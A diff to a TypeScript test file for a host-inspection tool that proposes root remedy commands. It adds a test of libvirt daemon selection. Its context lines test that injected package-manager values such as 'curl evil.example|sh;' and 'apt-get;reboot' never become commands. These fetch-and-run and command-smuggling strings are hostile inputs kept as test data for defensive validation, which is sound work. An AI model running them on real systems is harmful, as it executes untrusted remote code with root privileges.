@@ -36,6 +36,19 @@ describe('an inspected host', () => {
     expect(check(`ip \npackages dnf\n${WELL}`, 'host_ip')?.remedy?.command).toEqual(['dnf', 'install', 'iproute']);
   });
 
+  it('starts the daemon that its distribution has', () => {
+    const silent = but('libvirtd', 'error: failed to connect');
+    const commandOf = (text: string) => check(text, 'host_libvirtd')?.remedy?.command;
+    expect(commandOf(silent)).toEqual(['systemctl', 'enable', '--now', 'libvirtd.socket']);
+    expect(commandOf(`libvirt-unit virtqemud.socket\n${silent}`)).toEqual([
+      'systemctl',
+      'enable',
+      '--now',
+      'virtqemud.socket',
+    ]);
+    expect(commandOf(`libvirt-unit evil.service\n${silent}`)).toContain('libvirtd.socket');
+  });
+
   it('cannot choose the program in a command that the user runs as root', () => {
     for (const manager of ['curl evil.example|sh;', 'pacman', '/tmp/apt-get', 'apt-get;reboot', '__proto__'])
       expect(check(`ip \npackages ${manager}\n${WELL}`, 'host_ip')?.remedy?.command).toBeNull();
